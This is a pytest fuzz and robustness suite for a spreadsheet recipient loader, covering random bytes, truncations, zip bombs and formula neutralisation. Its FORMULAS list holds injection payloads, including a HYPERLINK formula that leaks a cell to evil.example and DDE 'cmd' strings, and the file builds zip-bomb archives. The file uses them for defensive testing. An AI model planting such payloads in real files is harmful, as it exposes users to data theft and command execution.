"""Hostile spreadsheets: whatever the bytes, ingest returns rows or one `RecipientsFileError`.

Random and truncated bytes go through `load_recipients` with hypothesis; formulas are never
evaluated and are neutralised in the error-rows workbook; a few cases go through `zns validate`.
"""

from __future__ import annotations

import os
import random
import re
import struct
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from esms_sim.server import SimulatorServer
from tests.flows.support import run_cli, send_requests, spec_for, write_spec
from tests.test_recipients_support import (
    FALLBACK,
    HEADER,
    MAPPING,
    TEMPLATE,
    good_row,
    write_csv,
    write_encrypted_ooxml,
    write_xls,
    write_xlsx,
)
from zns.recipients import (
    FILE_CODES,
    ROW_CODES,
    RecipientsFileError,
    ValidationResult,
    load_blocklist,
    load_recipients,
    write_error_workbook,
)
from zns.recipients.cells import FORMULA_STARTS, cell_text

BOUNDED = settings(max_examples=150, deadline=None,
                   suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
SUFFIXES = [".xlsx", ".xls", ".xlsm", ".ods", ".csv", ".txt", ""]
ZIP_MAGIC, OLE_MAGIC = b"PK\x03\x04", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ROOT = Path(__file__).resolve().parents[1]


def outcome(path: Path, **kw: Any) -> ValidationResult | RecipientsFileError:
    """Load `path`; anything but rows with reasons or one RecipientsFileError fails the test."""
    try:
        result = load_recipients(TEMPLATE, source=str(path), **{**MAPPING, **FALLBACK, **kw})
    except RecipientsFileError as exc:
        text = str(exc)
        assert exc.code in FILE_CODES and text.startswith(f"{exc.code}: ")
        assert len(text.splitlines()) == 1, text
        return exc
    assert result.rows_read == len(result.valid) + len(result.invalid)
    for row in result.invalid:
        assert row.issues and all(code in ROW_CODES for code in row.codes)
        assert all(issue.message_vi for issue in row.issues)
    return result


@pytest.fixture(scope="module")
def workbook_bytes(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A real customer workbook (30 rows, a few invalid) to cut and corrupt."""
    rows = [good_row(i) for i in range(30)]
    rows[3][0] = "12345"
    rows[7][1] = ""
    return write_xlsx(tmp_path_factory.mktemp("src") / "khach.xlsx", rows).read_bytes()


@pytest.fixture(scope="module")
def xls_bytes(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return write_xls(tmp_path_factory.mktemp("src") / "khach.xls", [good_row(i) for i in range(30)]).read_bytes()


# ------------------------------------------------------------------------------- random bytes


@BOUNDED
@given(st.sampled_from([b"", ZIP_MAGIC, OLE_MAGIC, b"\xef\xbb\xbf", b"PK\x05\x06"]),
       st.binary(max_size=2000), st.sampled_from(SUFFIXES))
def test_random_bytes(tmp_path: Path, magic: bytes, body: bytes, suffix: str) -> None:
    path = tmp_path / f"random{suffix}"
    path.write_bytes(magic + body)
    outcome(path)


@BOUNDED
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=400),
       st.sampled_from([",", ";", "\t"]))
def test_random_text_under_a_real_header(tmp_path: Path, text: str, sep: str) -> None:
    path = tmp_path / "k.csv"
    path.write_bytes((sep.join(HEADER) + "\r\n" + text).encode("utf-8"))
    outcome(path)


@BOUNDED
@given(st.data())
def test_truncated_workbook(tmp_path: Path, workbook_bytes: bytes, data: st.DataObject) -> None:
    cut = data.draw(st.integers(min_value=1, max_value=len(workbook_bytes) - 1))
    path = tmp_path / data.draw(st.sampled_from(["k.xlsx", "k.csv", "k"]))
    path.write_bytes(workbook_bytes[:cut])
    assert isinstance(outcome(path), RecipientsFileError)  # no part of a cut workbook is read


@pytest.mark.parametrize("fraction", [0.01, 0.1, 0.25, 0.5, 0.75, 0.9, 0.99])
def test_workbooks_cut_at_fixed_points(tmp_path: Path, workbook_bytes: bytes, xls_bytes: bytes,
                                       fraction: float) -> None:
    for name, data in (("k.xlsx", workbook_bytes), ("k.xls", xls_bytes)):
        path = tmp_path / name
        path.write_bytes(data[: int(len(data) * fraction)])
        assert isinstance(outcome(path), RecipientsFileError)
    path = tmp_path / "end.xlsx"
    path.write_bytes(workbook_bytes[:-22])  # without the end-of-central-directory record
    assert outcome(path).code == "NOT_SPREADSHEET"  # type: ignore[union-attr]


@BOUNDED
@given(st.data())
def test_corrupted_workbook(tmp_path: Path, workbook_bytes: bytes, data: st.DataObject) -> None:
    """Overwritten bytes anywhere: zipfile raised NotImplementedError/UnicodeDecodeError before."""
    raw = bytearray(workbook_bytes)
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(raw) - 1))
        chunk = data.draw(st.binary(min_size=1, max_size=40))
        raw[at : at + len(chunk)] = chunk
    path = tmp_path / "k.xlsx"
    path.write_bytes(bytes(raw))
    outcome(path)


@BOUNDED
@given(st.data())
def test_truncated_xls(tmp_path: Path, xls_bytes: bytes, data: st.DataObject) -> None:
    """calamine panics (pyo3 PanicException, a BaseException) on ~15 % of the cut points.

    Only cuts: every cut point of this file was checked not to abort the process, whereas
    overwritten bytes sometimes do (see `test_calamine_allocation_bombs` below).
    """
    cut = data.draw(st.integers(min_value=1, max_value=len(xls_bytes) - 1))
    path = tmp_path / data.draw(st.sampled_from(["k.xls", "k.xlsx", "k"]))
    path.write_bytes(xls_bytes[:cut])
    outcome(path)


@pytest.mark.parametrize("kind", ["far-cell-xlsx", "xls-dimensions"])
def test_calamine_allocation_bombs(tmp_path: Path, xls_bytes: bytes, kind: str) -> None:
    """A sheet declaring an absurd range is refused before calamine allocates it (calamine would
    abort the process with SIGABRT). Run in a child process so a regression cannot kill the session."""
    if kind == "far-cell-xlsx":
        path = write_xlsx(tmp_path / "far.xlsx", [good_row(0)])
        wb = load_workbook(path)
        wb.active["XFD1048576"] = "x"  # one far cell: a 2**34-cell range (a 5 KB file)
        wb.save(path)
    else:
        raw = bytearray(xls_bytes)
        at = raw.index(b"\x00\x02\x0e\x00")  # DIMENSIONS: first row > last row
        struct.pack_into("<I", raw, at + 4, 0xB400)
        path = tmp_path / "dims.xls"
        path.write_bytes(bytes(raw))
    script = textwrap.dedent(f"""
        from tests.test_recipients_support import FALLBACK, MAPPING, TEMPLATE
        from zns.recipients import RecipientsFileError, load_recipients
        try:
            load_recipients(TEMPLATE, source={str(path)!r}, **MAPPING, **FALLBACK)
        except RecipientsFileError as exc:
            print(exc.code)
    """)
    child = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True,
                           timeout=120, env={**os.environ, "RUST_BACKTRACE": "0"})
    assert child.returncode == 0, child.stderr[-500:]
    assert child.stdout.strip() in ("TOO_MANY_ROWS", "NOT_SPREADSHEET")


# ------------------------------------------------------------------ named hostile files


def _rezip(source: Path, target: Path, changes: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(source) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    members.update(changes)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return target


def test_zip_bombs(tmp_path: Path) -> None:
    src = write_xlsx(tmp_path / "k.xlsx", [good_row(0)])
    ratio = _rezip(src, tmp_path / "ratio.xlsx", {"xl/media/pad.bin": bytes(17 * 2**20)})
    assert outcome(ratio).code == "ZIP_BOMB"  # type: ignore[union-attr]

    # Declared sizes that add up to more than 1 GiB (the central directory is what is checked).
    raw = bytearray(src.read_bytes())
    at = 0
    while (at := raw.find(b"PK\x01\x02", at)) >= 0:
        struct.pack_into("<I", raw, at + 24, 300 * 2**20)
        at += 4
    declared = tmp_path / "declared.xlsx"
    declared.write_bytes(bytes(raw))
    assert outcome(declared).code == "ZIP_BOMB"  # type: ignore[union-attr]

    # Sizes that lie the other way: small declared, 20 MiB of XML inflated.
    xml = zipfile.ZipFile(src).read("xl/worksheets/sheet1.xml")
    padded = xml.replace(b"<sheetData>", b"<sheetData>" + b" " * (20 * 2**20), 1)
    liar = bytearray(_rezip(src, tmp_path / "liar.xlsx", {"xl/worksheets/sheet1.xml": padded}).read_bytes())
    for magic, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = 0
        while (at := liar.find(magic, at)) >= 0:
            struct.pack_into("<I", liar, at + offset, 1000)
            at += 4
    (tmp_path / "liar.xlsx").write_bytes(bytes(liar))
    assert isinstance(outcome(tmp_path / "liar.xlsx"), RecipientsFileError)


def test_encrypted_looking_files(tmp_path: Path) -> None:
    assert outcome(write_encrypted_ooxml(tmp_path / "locked.xlsx")).code == "ENCRYPTED"  # type: ignore[union-attr]
    fake = tmp_path / "fake.xlsx"
    fake.write_bytes(OLE_MAGIC + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600))
    assert outcome(fake).code == "ENCRYPTED"  # type: ignore[union-attr]
    garbage = tmp_path / "garbage.xls"
    garbage.write_bytes(OLE_MAGIC + random.Random(1).randbytes(4000))
    assert outcome(garbage).code == "NOT_SPREADSHEET"  # type: ignore[union-attr]


def test_huge_cells(tmp_path: Path) -> None:
    huge = "x" * 2**20
    lines = [",".join(HEADER), f"0912345678,{huge},DH1,01/12/2026,1,", "0912345679,An,DH2,01/12/2026,1,"]
    err = outcome(write_csv(tmp_path / "k.csv", lines))
    assert isinstance(err, RecipientsFileError) and err.code == "NOT_SPREADSHEET"  # csv's field limit
    assert len(str(err)) < 500
    result = outcome(write_xlsx(tmp_path / "k.xlsx", [[912345678.0, huge, "DH1", "01/12/2026", 1.0, None],
                                                     ["0912" + huge, "An", "DH2", "01/12/2026", 1.0, huge]]))
    assert isinstance(result, ValidationResult)
    assert [r.codes for r in result.invalid] == [["TOO_LONG"], ["BAD_PHONE"]]
    out = write_error_workbook(result, tmp_path / "loi.xlsx")
    sheet = load_workbook(out, read_only=True).worksheets[0]
    assert all(len(str(v)) <= 32_767 for row in sheet.iter_rows(values_only=True) for v in row if v)


def test_nul_and_control_characters(tmp_path: Path) -> None:
    head = tmp_path / "nul-head.csv"
    head.write_bytes(",".join(HEADER).encode() + b"\r\n0912345678,A\x00n,DH1,01/12/2026,1,\r\n")
    assert outcome(head).code == "NOT_SPREADSHEET"  # type: ignore[union-attr]
    late = [",".join(HEADER)] + [f"09123{i:05d},An,DH{i},01/12/2026,1," for i in range(3000)] + ["0912,A\x00n,D,1,1,"]
    assert outcome(write_csv(tmp_path / "nul-late.csv", late)).code == "NOT_SPREADSHEET"  # type: ignore[union-attr]
    lines = [",".join([*HEADER, "Bell\x07"]), "12345,T\x01n\x1b,DH1,01/12/2026,1,ghi\x0bchu,x",
             "0912345678,An,DH2,01/12/2026,1,,"]
    result = outcome(write_csv(tmp_path / "ctl.csv", lines))
    assert isinstance(result, ValidationResult) and len(result.valid) == 1
    out = write_error_workbook(result, tmp_path / "loi.xlsx")  # openpyxl refused control characters
    rows = list(load_workbook(out).worksheets[0].iter_rows(values_only=True))
    assert rows[0][len(HEADER)] == "Bell" and rows[1][1] == "Tn"


def test_wrong_extensions_and_empty_files(tmp_path: Path, workbook_bytes: bytes, xls_bytes: bytes) -> None:
    for name, data in (("k.csv", workbook_bytes), ("k.txt", workbook_bytes), ("k", xls_bytes),
                       ("k.xlsx", xls_bytes), ("k.xls", workbook_bytes)):
        (tmp_path / name).write_bytes(data)
        result = outcome(tmp_path / name)
        assert isinstance(result, ValidationResult) and result.rows_read == 30, name
    csv_as_xlsx = write_csv(tmp_path / "csv.xlsx", [",".join(HEADER), "0912345678,An,DH1,01/12/2026,1,"])
    assert outcome(csv_as_xlsx).code == "NOT_SPREADSHEET"  # type: ignore[union-attr]
    (tmp_path / "empty.xlsx").write_bytes(b"")
    (tmp_path / "empty.csv").write_bytes(b"")
    assert outcome(tmp_path / "empty.xlsx").code == "EMPTY_FILE"  # type: ignore[union-attr]
    assert outcome(tmp_path / "empty.csv").code == "EMPTY_FILE"  # type: ignore[union-attr]
    assert outcome(write_xlsx(tmp_path / "h.xlsx", [])).code == "NO_DATA"  # type: ignore[union-attr]
    assert outcome(write_csv(tmp_path / "h.csv", [",".join(HEADER)])).code == "NO_DATA"  # type: ignore[union-attr]
    newline = tmp_path / "dòng\nmới.xlsx"
    newline.write_bytes(b"not a workbook")
    assert outcome(newline).code == "NOT_SPREADSHEET"  # type: ignore[union-attr]


@BOUNDED
@given(st.sampled_from([b"", ZIP_MAGIC, OLE_MAGIC]), st.binary(max_size=1000), st.sampled_from(SUFFIXES))
def test_blocklist_from_random_bytes(tmp_path: Path, magic: bytes, body: bytes, suffix: str) -> None:
    path = tmp_path / f"chan{suffix}"
    path.write_bytes(magic + body)
    try:
        phones = load_blocklist(path)
    except RecipientsFileError as exc:
        assert exc.code in FILE_CODES and len(str(exc).splitlines()) == 1
    else:
        assert all(p.isdigit() and len(p) == 10 for p in phones)


def test_blocklist_with_a_huge_field(tmp_path: Path) -> None:
    path = tmp_path / "chan.csv"
    path.write_text("0912345678\n" + "9" * 2**20 + "\n", encoding="utf-8")
    with pytest.raises(RecipientsFileError) as exc:  # csv.Error escaped before
        load_blocklist(path)
    assert exc.value.code == "NOT_SPREADSHEET"


def test_hostile_source_strings(tmp_path: Path) -> None:
    """urlparse raised ValueError, expanduser RuntimeError and httpx InvalidURL before."""
    for source, code in (("http://[::1", "BAD_SOURCE"), ("file://[x/k.xlsx", "BAD_SOURCE"),
                         ("~nobody-zns-test/k.xlsx", "FILE_NOT_FOUND"), ("http://\x00/k.xlsx", "DOWNLOAD_FAILED"),
                         ("k\x00.xlsx", "FILE_NOT_FOUND"), (str(tmp_path), "FILE_NOT_FOUND"),
                         ("http://", "DOWNLOAD_FAILED")):
        with pytest.raises(RecipientsFileError) as exc:
            load_recipients(TEMPLATE, source=source, **MAPPING)
        assert exc.value.code == code and len(str(exc.value).splitlines()) == 1, source


# ---------------------------------------------------------------------------------- formulas

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào")', "=1+1", "@SUM(A1:A9)",
            "+cmd|' /C calc'!A0", "-2+3", "=cmd|'/c notepad'!A1", "\t=1+1"]


def _assert_neutralised(path: Path) -> list[tuple[Any, ...]]:
    """No formula element in any sheet part, and no text cell a spreadsheet would evaluate."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >]", zf.read(name)), name
    wb = load_workbook(path)
    rows: list[tuple[Any, ...]] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
        rows += list(ws.iter_rows(values_only=True))
    return rows


def test_formulas_in_csv_are_text_and_neutralised(tmp_path: Path) -> None:
    lines = [",".join([*HEADER, "=HYPERLINK(\"\"http://x\"\")"])]
    for i, formula in enumerate(FORMULAS):
        quoted = '"' + formula.replace('"', '""') + '"'
        lines.append(f"12345{i},{quoted},DH{i},01/12/2026,1,{quoted},{quoted}")  # bad phone: error rows
    lines.append(f"0912345678,{'=1+1'},DH9,01/12/2026,1,,")
    result = outcome(write_csv(tmp_path / "f.csv", lines))
    assert isinstance(result, ValidationResult)
    assert result.valid[0].params[0] == "=1+1"  # kept as typed, never evaluated (to "2")
    assert len(result.invalid) == len(FORMULAS)
    rows = _assert_neutralised(write_error_workbook(result, tmp_path / "loi.xlsx"))
    texts = {v for row in rows for v in row if isinstance(v, str)}
    assert {"'" + f.strip() for f in FORMULAS} <= texts
    again = outcome(tmp_path / "loi.xlsx")  # the fixed-up file re-imports with the original text
    assert isinstance(again, ValidationResult)
    assert [cell_text(r.cells[1]) for r in again.invalid] == [cell_text(r.cells[1]) for r in result.invalid]


def test_formula_cells_in_xlsx_are_never_evaluated(tmp_path: Path) -> None:
    rows = [[f"12345{i}", formula, f"DH{i}", "01/12/2026", 1.0, formula] for i, formula in enumerate(FORMULAS)]
    rows.append(["0912345678", "=1+1", "DH9", "01/12/2026", "=2*3", None])
    path = write_xlsx(tmp_path / "f.xlsx", rows)  # openpyxl stores these as formulas without a value
    result = outcome(path)
    assert isinstance(result, ValidationResult)
    cells = [c for r in [*result.valid, *result.invalid] for c in r.cells]
    assert not {2, "2", 6, "6"} & set(cells)  # nothing computed
    _assert_neutralised(write_error_workbook(result, tmp_path / "loi.xlsx"))

    wb = load_workbook(path)
    for row in wb.active.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                cell.data_type = "s"  # the same text typed into text cells
    wb.save(path)
    result = outcome(path)
    assert isinstance(result, ValidationResult)
    rows_out = _assert_neutralised(write_error_workbook(result, tmp_path / "loi2.xlsx"))
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for row in rows_out for v in row)


# ------------------------------------------------------------------------------- through the CLI


def _cli_file_error(env: dict[str, str], tmp_path: Path, source: Path, code: str) -> None:
    spec = write_spec(tmp_path / "spec.yaml", spec_for(source))
    result = run_cli(["validate", str(spec)], env)
    output = result.stdout + result.stderr
    assert result.returncode == 2, output[-2000:]
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith(f"error: {code}: "), last
    assert "Traceback" not in output, output[-2000:]


@pytest.mark.prefect
def test_cli_random_bytes_as_xlsx(campaign_env: dict[str, str], flow_sim: SimulatorServer, tmp_path: Path) -> None:
    path = tmp_path / "khach.xlsx"
    path.write_bytes(ZIP_MAGIC + random.Random(7).randbytes(3000))
    _cli_file_error(campaign_env, tmp_path, path, "NOT_SPREADSHEET")
    assert send_requests(flow_sim) == 0


@pytest.mark.prefect
def test_cli_header_only_sheet(campaign_env: dict[str, str], flow_sim: SimulatorServer, tmp_path: Path) -> None:
    from tests.flows.support import HEADER as FLOW_HEADER

    _cli_file_error(campaign_env, tmp_path, write_xlsx(tmp_path / "khach.xlsx", [], header=FLOW_HEADER), "NO_DATA")
